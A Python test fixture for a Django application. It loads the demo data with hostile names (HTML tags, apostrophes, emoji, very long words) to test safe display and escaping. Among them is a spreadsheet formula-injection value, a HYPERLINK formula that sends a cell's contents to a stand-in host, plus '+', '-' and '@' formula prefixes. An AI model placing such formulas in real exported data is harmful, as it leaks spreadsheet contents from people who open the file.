"""The demo with hostile names (issue 17, « Bad input »): apostrophes, « & », angle brackets, emoji and
words of up to 200 characters in the names of the AMI, the candidates, two sites, the intervenants, the
prestataire's contact and a conseillère, and candidates named like spreadsheet formulas.

The names are given before the demo loads where the demo takes them from a table (the sites, the
candidates, the accounts): the demo's emails, dossiers, letters and convention then carry them from the
start, as a real office's would. The AMI's title is edited between the reference data and the demo (the
reference never overwrites an edit). The intervenants, the conseillère and the demo AMI's draft
candidate, whose names the demo uses to find them, are renamed once it has loaded (`rename_people`).
"""

import json
from io import StringIO

from django.core.management import call_command

import ami.demo
import ami.reference
import mlhg_app.demo
import mlhg_app.structure_file
from ami.models import AMI, Intervenant, Prestataire
from mlhg_app.models import User
from seances.models import IntervenantProgramme

HOSTILE = "L'Atelier & Fils <b>Ψ</b> 🧠"


def long_word(length: int, seed: str = "Anticonstitutionnellement") -> str:
    """One word of `length` characters, no space."""
    return (seed * (length // len(seed) + 1))[:length]


def hostile(prefix: str, max_length: int) -> str:
    """« <prefix> L'Atelier & Fils <b>Ψ</b> 🧠 Anticonstitutionnellement… », filled up to `max_length` by one word."""
    start = f"{prefix} {HOSTILE} "
    return start + long_word(max_length - len(start))


AMI_TITRE = f"{HOSTILE} {long_word(200)}"  # the 200-character word, in every document of the AMI
LAUREAT = hostile("Cabinet", 200)  # Horizons Supervision, the winner: the programme's prestataire
LONG_NAME = long_word(200, "Pyrène")  # a raison sociale of one 200-character word
FORMULAS = {  # raisons sociales a spreadsheet would run as formulas
    "Coopérative Tisser Liens": '=HYPERLINK("http://x.example/?d="&A1;"clic")',
    "Regards Croisés Occitanie": "@Regards Croisés",
    "Atelier Parenthèse": "+Atelier Parenthèse",
    "Garonne Médiation": "-Garonne Médiation",
}
SITE = hostile("Antenne", 120)  # the Muretain, the README's conseillère's site
SITE_EMOJI = "Antenne d'O'Comminges & <Pyrénées> 🏔️"  # with a variation selector (U+FE0F)
CONTACT_NOM = "D'Elmas & <Fils> 🧠"  # the prestataire's contact, Claire Delmas
INTERVENANT_PRENOM = "Marc-Émile 😀"
INTERVENANT_NOM = hostile("O'Livier", 100)  # Marc Olivier, the intervenant with an account
CONSEILLERE_NOM = hostile("Dupuy-L'Hôte", 150)  # Manon Dupuy

# The values a reader must find, each exactly as typed.
NAMES = [AMI_TITRE, LAUREAT, LONG_NAME, SITE, SITE_EMOJI, *FORMULAS.values()]

SITE_CODES = {"muretain": SITE, "comminges": SITE_EMOJI}
CONSEILLERE = "manon.dupuy@demo.ml31.org"
INTERVENANT = "marc.olivier@horizons-supervision.demo"
PRESTATAIRE = "contact@horizons-supervision.demo"
LATE_CANDIDATE = "v.morel@atelier-parenthese.demo"  # « +Atelier Parenthèse », its draft never submitted


def _hostile_tables(monkeypatch, directory):
    # MLHG's file with two sites renamed (the demo loads it again: `load_mlhg`)
    text = mlhg_app.structure_file.MLHG_FILE.read_text(encoding="utf-8")
    for code, nom in SITE_CODES.items():
        start = text.index(f'code = "{code}"')
        old = text[start:].split("\n", 2)[1]
        text = text[:start] + text[start:].replace(old, f"nom = {json.dumps(nom, ensure_ascii=False)}", 1)
    hostile = directory / "mlhg.toml"
    hostile.write_text(text, encoding="utf-8")
    monkeypatch.setattr(mlhg_app.structure_file, "MLHG_FILE", hostile)
    people = [
        (role, email, first, CONTACT_NOM if email == PRESTATAIRE else last, site, manager)
        for role, email, first, last, site, manager in mlhg_app.demo.PEOPLE
    ]
    monkeypatch.setattr(mlhg_app.demo, "PEOPLE", people)
    renames = {"Horizons Supervision": LAUREAT, "Pyrène Psychologie du Travail": LONG_NAME, **FORMULAS}
    for data in [*ami.demo.CANDIDATS, ami.demo.PAR_COURRIEL]:
        monkeypatch.setitem(data, "raison_sociale", renames.get(data["raison_sociale"], data["raison_sociale"]))
        if data["raison_sociale"] == LAUREAT:
            first, _last, email, phone = data["contact"]
            monkeypatch.setitem(data, "contact", (first, CONTACT_NOM, email, phone))


def rename_people():
    """The intervenant Marc Olivier and the conseillère Manon Dupuy get hostile names (after the demo)."""
    IntervenantProgramme.objects.filter(nom="Olivier").update(prenom=INTERVENANT_PRENOM, nom=INTERVENANT_NOM)
    Intervenant.objects.filter(nom="Olivier").update(prenom=INTERVENANT_PRENOM, nom=INTERVENANT_NOM)
    User.objects.filter(email=INTERVENANT).update(first_name=INTERVENANT_PRENOM, last_name=INTERVENANT_NOM)
    User.objects.filter(email=CONSEILLERE).update(last_name=CONSEILLERE_NOM)
    Prestataire.objects.filter(raison_sociale="Atelier Parenthèse").update(
        raison_sociale=FORMULAS["Atelier Parenthèse"]
    )


def load_hostile_demo(monkeypatch, settings, tmp_path):
    """The demo (`load_demo`) with the hostile names above."""
    settings.DEBUG = True
    _hostile_tables(monkeypatch, tmp_path)
    call_command("load_mlhg", stdout=StringIO(), stderr=StringIO())
    AMI.objects.filter(reference=ami.reference.REFERENCE).update(titre=AMI_TITRE)
    call_command("load_demo", stdout=StringIO(), stderr=StringIO())
    rename_people()
